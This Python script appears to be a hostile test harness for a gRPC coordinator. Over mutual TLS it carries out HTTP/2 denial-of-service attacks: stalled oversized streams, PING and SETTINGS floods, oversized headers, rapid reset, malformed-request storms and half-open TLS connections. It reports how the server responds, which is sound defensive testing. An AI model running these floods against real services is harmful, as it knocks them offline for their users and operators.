#!/usr/bin/python3
"""Floods against a running sfl-coordinator (issue 11, item 1 and the hostile suite).

Opens CONNS HTTP/2 connections over mutual TLS with the given client
certificate; on each, STREAMS calls to PATH, every one announcing (gRPC
message prefix) ANNOUNCE bytes and then sending as much of them as the
coordinator's flow control lets through in HOLD seconds, never ending the
stream. Prints one line per final status seen ("status PATH CODE: message"),
"sent N" (DATA bytes the coordinator let through) and "open N" (streams still
open when it stops). Raw h2 (python3-h2), not grpcio: a gRPC library would not
announce more than it sends.

--mode picks another attack on the same connections (the certificate's):
  ping      PING frames as fast as TLS takes them, never reading the ACKs
  settings  the same with SETTINGS frames
  headers   streams whose header block is 8 x 4 KiB values (over the 16 KiB limit)
  reset     rapid reset: open a stream and reset it, again and again
  join      1,100 unary Joins with a malformed body on every connection, then
            waits (up to --hold) for the server to close it
  halfopen  CONNS TCP connections that send 100 bytes of a TLS ClientHello and
            then nothing (no h2 at all); with --src A,B,... CONNS from each of
            those source addresses (any 127.x.y.z on Linux), and with
            --extra N N more from each that the coordinator should refuse;
            prints "halfopen N" (flushed) once they are open, then holds
Each prints what the server answered ("status ...", "goaway N", "closed N")."""
import argparse
import socket
import ssl
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

ap = argparse.ArgumentParser()
for a in ("host", "ca", "cert", "key", "path"):
    ap.add_argument("--" + a, required=True)
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--conns", type=int, default=4)
ap.add_argument("--streams", type=int, default=32)
ap.add_argument("--announce", type=int, default=64 << 20)
ap.add_argument("--send", type=int, default=16 << 20)
ap.add_argument("--hold", type=float, default=3.0)
ap.add_argument("--src", default="")
ap.add_argument("--extra", type=int, default=0)
ap.add_argument("--mode", default="body",
                choices=["body", "ping", "settings", "headers", "reset", "join", "halfopen"])
o = ap.parse_args()

if o.mode == "halfopen":
    socks = []
    hello = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]) + b"\0" * 89
    srcs = o.src.split(",") if o.src else [None]
    for src in srcs:
        for _ in range(o.conns + o.extra):
            try:
                s = socket.create_connection((o.host, o.port), timeout=10,
                                             source_address=(src, 0) if src else None)
                socks.append(s)
                s.sendall(hello)
            except OSError:
                continue  # refused at once (a per-source cap): the next one
    print("halfopen %d" % len(socks), flush=True)
    time.sleep(o.hold)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            closed += s.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    print("closed %d" % closed)
    raise SystemExit(0)

ctx = ssl.create_default_context(cafile=o.ca)
ctx.load_cert_chain(o.cert, o.key)
ctx.set_alpn_protocols(["h2"])
ctx.check_hostname = False

conns = []
for _ in range(o.conns):
    s = socket.create_connection((o.host, o.port), timeout=10)
    s = ctx.wrap_socket(s, server_hostname=o.host)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    s.setblocking(False)
    conns.append({"s": s, "c": c, "left": {}, "open": set()})

statuses = {}
sent = 0
goaways = 0
chunk = b"\0" * 16384


def pump(k):
    """Reads what arrived, records final statuses, writes what h2 has."""
    global sent, goaways
    s, c = k["s"], k["c"]
    try:
        data = s.recv(1 << 16)
    except (ssl.SSLWantReadError, BlockingIOError):
        data = None
    except OSError:
        data = b""
    if data == b"":
        k["open"].clear()
        return False
    if data:
        for ev in c.receive_data(data):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                h = dict((bytes(n), bytes(v)) for n, v in ev.headers)
                if b"grpc-status" in h:
                    msg = h.get(b"grpc-message", b"").decode()
                    key = "%s %s: %s" % (o.path, h[b"grpc-status"].decode(), msg)
                    statuses[key] = statuses.get(key, 0) + 1
                    k["open"].discard(ev.stream_id)
                    k["left"].pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.StreamReset):
                k["open"].discard(ev.stream_id)
                k["left"].pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                goaways += 1
    for sid in list(k["left"]):
        while k["left"].get(sid, 0) > 0:
            try:
                w = min(c.local_flow_control_window(sid), k["left"][sid], len(chunk),
                        c.max_outbound_frame_size)
            except h2.exceptions.StreamClosedError:
                k["left"].pop(sid, None)
                break
            if w <= 0:
                break
            c.send_data(sid, chunk[:w])
            k["left"][sid] -= w
            sent += w
    out = c.data_to_send()
    if out:
        try:
            s.setblocking(True)
            s.sendall(out)
            s.setblocking(False)
        except OSError:
            k["open"].clear()
            return False
    return True


HDRS = [(":method", "POST"), (":scheme", "https"), (":path", o.path), (":authority", o.host),
        ("content-type", "application/grpc"), ("te", "trailers")]


def raw_write(k, data):
    try:
        k["s"].setblocking(True)
        k["s"].sendall(data)
        k["s"].setblocking(False)
        return True
    except OSError:
        return False


def storm(k, end):
    """The control-frame and stream attacks: as much as the socket takes."""
    c = k["c"]
    while time.monotonic() < end:
        try:
            if o.mode == "ping":
                for _ in range(100):
                    c.ping(b"12345678")
            elif o.mode == "settings":
                for _ in range(100):
                    c.update_settings({h2.settings.SettingCodes.ENABLE_PUSH: 0})
            elif o.mode == "headers":
                sid = c.get_next_available_stream_id()
                c.send_headers(sid, HDRS + [("x-bomb-%d" % i, "v" * 4096) for i in range(8)],
                               end_stream=True)
            elif o.mode == "reset":
                for _ in range(50):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, HDRS)
                    c.reset_stream(sid)
            elif o.mode == "join":
                if k.setdefault("joins", 0) >= 1100:
                    pass  # past the 1,000 the server tolerates: wait for its close
                else:
                    k["joins"] += 20
                for _ in range(20 if k["joins"] <= 1100 else 0):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, HDRS)
                    c.send_data(sid, struct.pack(">BI", 0, 3) + b"bad", end_stream=True)
        except (h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
            pass
        out = c.data_to_send()
        if out and not raw_write(k, out):
            return False
        if not pump(k):
            return False
    return True


if o.mode != "body":
    import h2.settings
    end = time.monotonic() + o.hold
    alive = [k for k in conns]
    while alive and time.monotonic() < end:
        alive = [k for k in alive if storm(k, min(end, time.monotonic() + 0.05))]
    for key in sorted(statuses):
        print("status %s x%d" % (key, statuses[key]))
    print("goaway %d" % goaways)
    print("closed %d" % (len(conns) - len(alive)))
    for k in conns:
        k["s"].close()
    raise SystemExit(0)

for k in conns:
    c = k["c"]
    for _ in range(o.streams):
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, [(":method", "POST"), (":scheme", "https"), (":path", o.path),
                             (":authority", o.host), ("content-type", "application/grpc"),
                             ("te", "trailers")])
        c.send_data(sid, struct.pack(">BI", 0, o.announce))
        k["left"][sid] = o.send - 5
        k["open"].add(sid)
    pump(k)

# Until every stream has its status (or --hold passes: a bound, not a pace).
end = time.monotonic() + o.hold
while time.monotonic() < end and any(k["open"] for k in conns):
    for k in conns:
        pump(k)
    time.sleep(0.01)

for key in sorted(statuses):
    print("status %s x%d" % (key, statuses[key]))
print("sent %d" % sent)
print("open %d" % sum(len(k["open"]) for k in conns))
for k in conns:
    k["s"].close()
